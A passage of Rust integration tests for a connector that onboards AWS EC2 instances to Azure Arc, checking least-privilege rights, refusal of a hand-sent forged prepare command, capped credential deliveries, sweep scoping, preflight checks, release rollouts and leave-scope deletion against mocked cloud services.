        onboarding.iter().copied().chain(["Microsoft.HybridCompute/machines/delete"]).collect();
    for (actions, named) in [(vec!["*"], "(*)"), (with_delete, "(Microsoft.HybridCompute/machines/delete)")] {
        moto.arm(json!({"permissions": {SERVICE_PRINCIPAL: [{"actions": actions}]}}));
        moto.clear_calls();
        let report = run(&job, reprovision_all()).await;
        let item = find(&report, &id);
        assert_eq!(item.status, Status::Failed, "{item:?}");
        assert!(
            item.reason.contains("more than Azure Connected Machine Onboarding") && item.reason.contains(named),
            "{}",
            item.reason
        );
        assert!(sends(&moto.calls()).is_empty(), "nothing sent, not even a prepare");
    }
    moto.arm(json!({"permissions": {SERVICE_PRINCIPAL: [{"actions": onboarding}]}}));
    let report = run(&job, reprovision_all()).await;
    assert_eq!(outcome(&report, &id), (Status::Done, "connected".into()), "{:#?}", report.items);
    assert!(moto.arm_state()["permissionReads"].as_u64() >= Some(3));
}

/// Issue "sealed onboarding", item 5: a key reported by a command the connector did not send (a
/// prepare run by hand) is never sealed to, even when it is the instance's latest result; only
/// the key from the connector's own prepare command counts, and here that command fails.
#[tokio::test]
async fn a_key_from_a_command_the_connector_did_not_send_is_never_sealed_to() {
    let (moto, management, accounts) = estate(0).await;
    let config_ = &accounts[0].1;
    let id = seed::instance(config_, REGION, &[], Some(PROFILE)).await;
    let mut parameters: HashMap<String, Vec<String>> = HashMap::new();
    for (name, value) in [
        ("tenantId", "11111111-2222-3333-4444-555555555555"),
        ("subscriptionId", "aaaaaaaa-2222-3333-4444-555555555555"),
        ("resourceGroup", "rg-arc"),
        ("location", "westeurope"),
        ("connectorId", "mdc-connector-1"),
        ("accountId", MANAGEMENT),
        ("servicePrincipalId", SERVICE_PRINCIPAL),
        ("correlationId", "cccccccc-2222-3333-4444-555555555555"),
        ("phase", "prepare"),
    ] {
        parameters.insert(name.into(), vec![value.into()]);
    }
    let forged = send_by_hand(config_, &id, parameters).await;
    assert_eq!(forged["status"], json!("key-ready"), "{forged}");
    let failed = r#"MDC_ARC_RESULT {"status":"failed","reason":"sealing-key-failed","detail":"openssl genpkey"}"#;
    moto.ssm_outcomes(json!([{"instanceId": id, "phase": "prepare", "status": "Failed", "output": failed}]));
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    moto.clear_calls();
    let report = run(&job, json!({"action":"reprovision","accountId":MANAGEMENT,"region":REGION})).await;
    assert_eq!(outcome(&report, &id), (Status::Failed, "failed".into()), "{:#?}", report.items);
    let all = sends(&moto.calls());
    assert_eq!((prepares(&all).len(), connects(&all).len()), (1, 0), "no sealed credential for the forged key");
}

/// Issue "sealed onboarding", item 3: an instance whose onboarding keeps failing (however)
/// receives the credential at most ARC_MAX_DELIVERIES times in a row (3 by default); then it is reported
/// needs-attention with its last failure, and only a forced reprovision delivers again.
#[tokio::test]
async fn an_instance_failing_on_purpose_stops_receiving_tokens_after_three_deliveries() {
    let (moto, management, id) = one_managed_instance().await;
    // Failures that change from run to run count alike (an instance cannot reset the bound by
    // varying them).
    let failed = |reason: &str| format!(r#"MDC_ARC_RESULT {{"status":"failed","reason":"{reason}","detail":"x"}}"#);
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let scheduled = scheduled();
    let mut delivered = Vec::new();
    for reason in ["install-failed", "connect-failed", "install-failed", "connect-failed"] {
        let output = failed(reason);
        moto.ssm_outcomes(json!([{"instanceId": id, "phase": "connect", "status": "Failed", "output": output}]));
        moto.clear_calls();
        let report = run(&job, scheduled.clone()).await;
        delivered.push(connects(&sends(&moto.calls())).len());
        if delivered.len() == 4 {
            let item = find(&report, &id);
            assert_eq!(outcome(&report, &id), (Status::Skipped, "needs-attention".into()), "{item:?}");
            assert!(item.reason.contains("3 times") && item.reason.contains("install-failed"), "{}", item.reason);
        } else {
            assert_eq!(outcome(&report, &id), (Status::Failed, "failed".into()));
        }
    }
    assert_eq!(delivered, [1, 1, 1, 0], "three deliveries, then none");
    moto.clear_calls();
    let request =
        json!({"action":"reprovision","accountId":MANAGEMENT,"region":REGION,"instanceIds":[id],"force":true});
    let forced = run(&job, request).await;
    assert_eq!(connects(&sends(&moto.calls())).len(), 1, "force delivers again: {:#?}", forced.items);
}

/// Issue "sealed onboarding", item 2: the sweep signs in only as an application of its own; with
/// none configured, or with the opted-in client secret (the onboarding application's), it reports
/// itself off and asks Entra for nothing.
#[tokio::test]
async fn the_sweep_never_signs_in_as_the_onboarding_application() {
    let (moto, management, _) = one_managed_instance().await;
    let authority = moto.entra_authority();
    let mut without: HashMap<String, String> =
        vars(&[("ARC_AUTHORITY_HOST", &authority), ("ARC_RESOURCE_MANAGER_HOST", &authority)]);
    without.remove("ARC_SWEEP_SERVICE_PRINCIPAL_ID");
    let settings = ArcSettings::from_lookup(|k| without.get(k).cloned()).expect("settings");
    let source = with_secret(&management).await;
    let secret = config(&moto, &[source]);
    for (settings, why) in [(settings, "set ARC_SWEEP_SERVICE_PRINCIPAL_ID"), (secret, "ARC_CREDENTIAL_PARAMETER")] {
        let job = ArcProvisioner::new(settings, management.clone());
        moto.clear_calls();
        let before = moto.entra_requests().len();
        let report = run(&job, json!({"action":"sweep"})).await;
        let [item] = &report.items[..] else { panic!("one item: {:#?}", report.items) };
        assert_eq!(item.status, Status::Skipped, "{item:?}");
        assert!(item.reason.contains("the sweep is off") && item.reason.contains(why), "{}", item.reason);
        assert_eq!(moto.entra_requests().len(), before, "no sign-in");
        assert_eq!(report.summary.failed, 0);
    }
}

/// Issue "sealed onboarding", item 2: with `ARC_RESOURCE_GROUP=aws_{accountId}` (the layout of
/// Microsoft's Azure Arc multicloud connector) each account's machines go to a group of their own,
/// an account tagged with its own application gets that application's token (containment), the
/// rights are checked per application and group (a group where the application holds more than
/// onboarding stops only that account), and the sweep sees only groups of that form.
#[tokio::test(flavor = "multi_thread")]
async fn a_resource_group_per_account_holds_each_accounts_machines_and_is_checked_on_its_own() {
    use azure_core::time::{Duration as AzDuration, OffsetDateTime, to_rfc3339};
    let (moto, management, accounts) = estate(1).await;
    let ((own, own_config), (member, member_config)) = (&accounts[0], &accounts[1]);
    let mine = seed::instance(own_config, REGION, &[], Some(PROFILE)).await;
    let theirs = seed::instance(member_config, REGION, &[], Some(PROFILE)).await;
    // The management account names an application of its own; the member uses the default one,
    // which holds more than onboarding on the member's group.
    const OWN_APPLICATION: &str = "dddddddd-2222-3333-4444-555555555555";
    let (issuer, subject) = seed::azure_federation(&moto, &management).await;
    moto.entra(json!({"federated": {OWN_APPLICATION: [{"issuer": issuer, "subject": subject,
        "audiences": ["api://AzureADTokenExchange"]}]}}));
    aws_sdk_organizations::Client::new(&management)
        .tag_resource()
        .resource_id(own.as_str())
        .tags(
            aws_sdk_organizations::types::Tag::builder()
                .key(connector_engine::arc::APPLICATION_TAG)
                .value(OWN_APPLICATION)
                .build()
                .expect("tag"),
        )
        .send()
        .await
        .expect("tag the account");
    let broad = format!("{SERVICE_PRINCIPAL}/aws_{member}");
    moto.arm(json!({"permissions": {broad: [{"actions": ["*"]}]}}));
    let job = ArcProvisioner::new(config(&moto, &[("ARC_RESOURCE_GROUP", "aws_{accountId}")]), management.clone());
    moto.clear_calls();
    let report = run(&job, scheduled()).await;
    assert_eq!(outcome(&report, &mine), (Status::Done, "connected".into()), "{:#?}", report.items);
    let refused = find(&report, &theirs);
    assert_eq!(refused.status, Status::Failed);
    assert!(
        refused.reason.contains(&format!("resource group aaaaaaaa-2222-3333-4444-555555555555/aws_{member}")),
        "{}",
        refused.reason
    );
    let sent = sends(&moto.calls());
    assert!(sent.iter().all(|b| b["Parameters"]["resourceGroup"] == json!([format!("aws_{own}")])), "{sent:#?}");
    assert_eq!(moto.arm_state()["permissionReads"], json!(2), "each group checked once");
    let clients: std::collections::BTreeSet<String> =
        moto.entra_requests().iter().filter_map(|r| r["clientId"].as_str().map(String::from)).collect();
    assert!(
        clients.contains(OWN_APPLICATION) && clients.contains(SERVICE_PRINCIPAL),
        "a token per application: {clients:?}"
    );
    assert!(refused.reason.contains(&format!("application {SERVICE_PRINCIPAL}")), "{}", refused.reason);

    // The sweep lists the subscription and keeps to groups of the template's form.
    let ago = |days: i64| to_rfc3339(&(OffsetDateTime::now_utc() - AzDuration::days(days)));
    let machine = |group: &str, name: &str| {
        json!({"id": format!("/subscriptions/aaaaaaaa-2222-3333-4444-555555555555/resourceGroups/{group}/providers/Microsoft.HybridCompute/machines/{name}"),
               "name": name, "location": "westeurope",
               "tags": {"MDFCSecurityConnector": "mdc-connector-1", "AccountId": own, "InstanceId": name, "Cloud": "AWS"},
               "properties": {"status": "Disconnected", "lastStatusChange": ago(30), "vmId": format!("vm-{name}")}})
    };
    moto.arm(json!({"machines": [machine(&format!("aws_{own}"), "i-0000000000000dead"), machine("rg-other", "i-0000000000000beef")]}));
    for (group, name) in
        [(format!("aws_{own}"), "i-0000000000000dead"), ("rg-other".to_string(), "i-0000000000000beef")]
    {
        let id = format!(
            "/subscriptions/aaaaaaaa-2222-3333-4444-555555555555/resourceGroups/{group}/providers/Microsoft.HybridCompute/machines/{name}"
        );
        recorded(&management, own, name, &id, &format!("vm-{name}")).await;
    }
    let swept = run(&job, json!({"action":"sweep"})).await;
    let deleted: Vec<String> = moto.arm_state()["deletes"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|d| d.as_str()?.rsplit('/').next().map(String::from))
        .collect();
    assert_eq!(deleted, ["i-0000000000000dead"], "{:#?}", swept.items);
    assert!(swept.items.iter().all(|i| i.resource_id != "i-0000000000000beef"), "another group is not the sweep's");
}

/// A preflight check's (outcome, reason).
fn preflight_check(report: &Report, check: &str) -> (String, String) {
    let item = find(report, check);
    (item.outcome.map(|o| o.as_str().to_string()).unwrap_or_default(), item.reason.clone())
}

#[tokio::test]
async fn preflight_checks_federation_sign_in_and_each_applications_rights_and_sends_nothing() {
    let (moto, management, _) = one_managed_instance().await;
    let (issuer, subject) = seed::azure_federation(&moto, &management).await;
    let job = ArcProvisioner::new(config(&moto, &[]), management);
    moto.clear_calls();
    let report = run(&job, json!({"action": "preflight"})).await;
    let ok = |report: &Report, check: &str| {
        let (outcome, reason) = preflight_check(report, check);
        assert_eq!(outcome, "ok", "{check}: {reason}");
    };
    for check in [
        "outbound-identity-federation",
        "entra-sign-in-onboarding",
        "azure-rights-onboarding",
        "entra-sign-in-sweep",
        "lambda-concurrency",
    ] {
        ok(&report, check);
    }
    // The sweep's application holds the onboarding role only (the emulator's default): no delete.
    let (outcome, reason) = preflight_check(&report, "azure-rights-sweep");
    assert_eq!(outcome, "missing", "{reason}");
    assert!(
        reason.contains("Microsoft.HybridCompute/machines/delete")
            && reason.contains("az role assignment create --assignee cccccccc-"),
        "{reason}"
    );
    assert_eq!(report.metrics, vec![("PreflightFailed", 1)]);
    let calls = moto.calls();
    assert!(sends(&calls).is_empty() && !calls.iter().any(|c| c.operation == "PutParameter"), "nothing sent or staged");

    // The sweep given read and delete; the onboarding application given more than onboarding; the
    // onboarding application's federated credential naming another subject.
    let sweep =
        json!([{"actions": ["Microsoft.HybridCompute/machines/read", "Microsoft.HybridCompute/machines/delete"]}]);
    moto.arm(json!({"permissions": {seed::ARC_SWEEPER: sweep, SERVICE_PRINCIPAL: [{"actions": ["*"]}]}}));
    let report = run(&job, json!({"action": "preflight"})).await;
    ok(&report, "azure-rights-sweep");
    let (outcome, reason) = preflight_check(&report, "azure-rights-onboarding");
    assert_eq!(outcome, "missing", "{reason}");
    assert!(reason.contains("may do more than onboard") && reason.contains("*"), "{reason}");
    let elsewhere = json!([{"issuer": issuer, "subject": "arn:aws:iam::123456789012:role/another", "audiences": ["api://AzureADTokenExchange"]}]);
    moto.entra(json!({"federated": {SERVICE_PRINCIPAL: elsewhere}}));
    let report = run(&job, json!({"action": "preflight"})).await;
    let (outcome, reason) = preflight_check(&report, "entra-sign-in-onboarding");
    assert_eq!(outcome, "missing", "{reason}");
    let command = format!("az ad app federated-credential create --id {SERVICE_PRINCIPAL}");
    assert!(reason.contains(&command) && reason.contains(&issuer) && reason.contains(&subject), "{reason}");
}

/// An upgrade's window (docs/upgrade.md): an account whose member stack still has the previous
/// release's document (0.1.0's, unchanged) keeps its covered instances covered, and its uncovered
/// ones are skipped naming the release until the StackSet's rollout reaches it; nothing is sent
/// with the old document, and once it is updated the instance is provisioned.
#[tokio::test]
async fn during_a_rollout_an_account_with_the_previous_releases_document_keeps_its_coverage() {
    let (moto, management, connected) = one_managed_instance().await;
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let first = run(&job, reprovision_all()).await;
    assert_eq!(outcome(&first, &connected), (Status::Done, "connected".into()), "{:#?}", first.items);
    let waiting = seed::instance(&management, REGION, &[], Some(PROFILE)).await;

    let ssm = ssm(&management);
    let current = ssm.describe_document().name(LINUX_DOC).send().await.expect("document");
    let current_version = current.document().and_then(|d| d.default_version()).expect("version").to_string();
    let previous = include_str!("documents/0.1.0/arc-onboard-linux.json");
    let updated = ssm
        .update_document()
        .name(LINUX_DOC)
        .content(previous)
        .document_version("$LATEST")
        .send()
        .await
        .expect("update");
    let old = updated.document_description().and_then(|d| d.document_version()).expect("version").to_string();
    ssm.update_document_default_version().name(LINUX_DOC).document_version(&old).send().await.expect("default");
    moto.clear_calls();

    let report = run(&job, scheduled()).await;
    assert_eq!(outcome(&report, &connected), (Status::Skipped, "already-connected".into()), "{:#?}", report.items);
    let item = find(&report, &waiting);
    assert_eq!((item.status, item.outcome), (Status::Skipped, None), "{item:?}");
    assert!(item.reason.contains(&format!("is release 0.1.0's (version {old})")), "{}", item.reason);
    assert_eq!(report.summary.failed, 0, "nothing fails while the rollout runs: {:#?}", report.items);
    assert!(sends(&moto.calls()).is_empty(), "nothing sent with the old document");

    // The rollout reaches the account: the instance is provisioned.
    ssm.update_document_default_version()
        .name(LINUX_DOC)
        .document_version(&current_version)
        .send()
        .await
        .expect("back");
    let report = run(&job, scheduled()).await;
    assert_eq!(outcome(&report, &waiting), (Status::Done, "connected".into()), "{:#?}", report.items);

    // Someone makes the earlier release's version the default again once a newer one exists: that
    // is a change like any other, refused and failed (an alarm sees it), never a silent skip.
    let now = ssm.get_document().name(LINUX_DOC).document_version(&current_version).send().await.expect("current");
    // SSM refuses content equal to an existing version's: the same document, described anew.
    let mut content: Value = serde_json::from_str(now.content().expect("content")).expect("json");
    content["description"] = Value::from("mdc-connector: the same document, a newer version");
    let newer = ssm.update_document().name(LINUX_DOC).content(content.to_string());
    newer.document_version("$LATEST").send().await.expect("a newer version");
    ssm.update_document_default_version().name(LINUX_DOC).document_version(&old).send().await.expect("demote");
    let late = seed::instance(&management, REGION, &[], Some(PROFILE)).await;
    let report = run(&job, scheduled()).await;
    let item = find(&report, &late);
    assert_eq!((item.status, item.code.as_str()), (Status::Failed, "provision/document-foreign"), "{item:?}");
    assert!(item.reason.contains("someone made the older version the default again"), "{}", item.reason);
}

/// Review of #31: the sweep signs in before its first Resource Manager request, so Entra's refusal
/// of the sweep's application carries the sign-in code the alarm matches.
#[tokio::test]
async fn a_sweep_entra_refuses_is_reported_with_the_sign_in_code() {
    let (moto, management, _) = estate(0).await;
    let (issuer, _) = seed::azure_federation(&moto, &management).await;
    let elsewhere = json!([{"issuer": issuer, "subject": "arn:aws:iam::123456789012:role/another", "audiences": ["api://AzureADTokenExchange"]}]);
    moto.entra(json!({"federated": {seed::ARC_SWEEPER: elsewhere}}));
    let job = ArcProvisioner::new(config(&moto, &[]), management);
    let report = run(&job, json!({"action": "sweep"})).await;
    let item = find(&report, "arc-machines");
    assert_eq!(
        (item.status, item.code.as_str()),
        (Status::Failed, "sweep-arc-machine/entra-sign-in-refused"),
        "{item:?}"
    );
    assert!(item.reason.contains("the sweep's application"), "{}", item.reason);
}

/// An account leaves the scope: the sweep keeps its machines and says how to remove them; a
/// `leaveScope` dry run lists them and deletes nothing; `leaveScope` deletes them (even a
/// `Connected` one: the account is no longer covered) and nothing of the accounts in scope.
#[tokio::test(flavor = "multi_thread")]
async fn an_account_leaving_the_scope_loses_its_arc_machines_only_on_leave_scope() {
    let (moto, _management, accounts) = estate(1).await;
    let (management, member) = (&accounts[0].1, &accounts[1]);
    let kept = seed::instance(management, REGION, &[], Some(PROFILE)).await;
    let leaving = seed::instance(&member.1, REGION, &[], Some(PROFILE)).await;
    let group = "/subscriptions/aaaaaaaa-2222-3333-4444-555555555555/resourceGroups/rg-arc/providers/Microsoft.HybridCompute/machines";
    let machine = |account: &str, id: &str| {
        json!({"id": format!("{group}/{id}"), "name": id,
               "tags": {"MDFCSecurityConnector": "mdc-connector-1", "AccountId": account, "InstanceId": id},
               "properties": {"status": "Connected", "lastStatusChange": "2026-01-01T00:00:00Z", "vmId": format!("vm-{id}")}})
    };
    moto.arm(json!({"machines": [machine(MANAGEMENT, &kept), machine(&member.0, &leaving)]}));
    recorded(management, MANAGEMENT, &kept, &format!("{group}/{kept}"), &format!("vm-{kept}")).await;
    recorded(management, &member.0, &leaving, &format!("{group}/{leaving}"), &format!("vm-{leaving}")).await;
    let authority = moto.entra_authority();
    let settings =
        config(&moto, &[("ARC_RESOURCE_MANAGER_HOST", &authority), ("CONNECTOR_EXCLUDED_ACCOUNTS", &member.0)]);
    let job = ArcProvisioner::new(settings, management.clone());

    let swept = run(&job, json!({"action": "sweep"})).await;
    assert_eq!(outcome(&swept, &leaving), (Status::Skipped, "kept".into()), "{:?}", swept.items);
    assert!(find(&swept, &leaving).reason.contains("leaveScope"), "{:?}", swept.items);
    let listed = run(&job, json!({"action": "sweep", "leaveScope": true, "dryRun": true})).await;
    assert_eq!(outcome(&listed, &leaving), (Status::Planned, "deleted".into()), "{:?}", listed.items);
    assert_eq!(moto.arm_state()["deleted"], 0, "neither the sweep nor the dry run deleted");

    let left = run(&job, json!({"action": "sweep", "leaveScope": true})).await;
    assert_eq!(outcome(&left, &leaving), (Status::Done, "deleted".into()), "{:?}", left.items);
    assert!(find(&left, &leaving).reason.contains("agent stays installed"), "{:?}", left.items);
    assert_eq!(outcome(&left, &kept), (Status::Skipped, "kept".into()), "in scope and Connected");
    let state = moto.arm_state();
    let names: Vec<&str> = state["deletes"].as_array().expect("deletes").iter().filter_map(|d| d.as_str()).collect();
    assert_eq!(names, [format!("{group}/{leaving}")]);
}

/// An instance without any instance profile, reached by Systems Manager through Default Host
/// Management Configuration (IMDSv2 required, DHMC on with the member template's role), ends
/// Arc-connected: the sealed onboarding needs no AWS credentials on the instance.
#[tokio::test(flavor = "multi_thread")]
async fn an_instance_with_no_profile_reached_through_dhmc_ends_arc_connected() {
    let (moto, management, _) = estate(0).await;
    // The member template's DHMC role (with SsmReach dhmc or both; seed::member_stack deploys the
    // default, profiles, which creates none).
    let iam = aws_sdk_iam::Client::new(&management);
    let trust = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ssm.amazonaws.com"},"Action":"sts:AssumeRole"}]}"#;
    iam.create_role().role_name("MdcConnectorDhmcRole").assume_role_policy_document(trust).send().await.expect("role");
    let policy = "arn:aws:iam::aws:policy/AmazonSSMManagedEC2InstanceDefaultPolicy";
    iam.attach_role_policy().role_name("MdcConnectorDhmcRole").policy_arn(policy).send().await.expect("policy");
    let id = seed::instance(&management, REGION, &[], None).await;
    let tokens = aws_sdk_ec2::types::HttpTokensState::Required;
    let imds = seed::ec2(&management, REGION).modify_instance_metadata_options().instance_id(&id).http_tokens(tokens);
    imds.send().await.expect("IMDSv2");
    let setting = "/ssm/managed-instance/default-ec2-instance-management-role";
    let dhmc = ssm(&management).update_service_setting().setting_id(setting).setting_value("MdcConnectorDhmcRole");
    dhmc.send().await.expect("DHMC on");
    let association = seed::ec2(&management, REGION).describe_iam_instance_profile_associations().send().await;
    assert!(association.expect("associations").iam_instance_profile_associations().is_empty(), "no profile at all");

    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let report = run(&job, scheduled()).await;
    assert_eq!(outcome(&report, &id), (Status::Done, "connected".into()), "{:#?}", report.items);
}
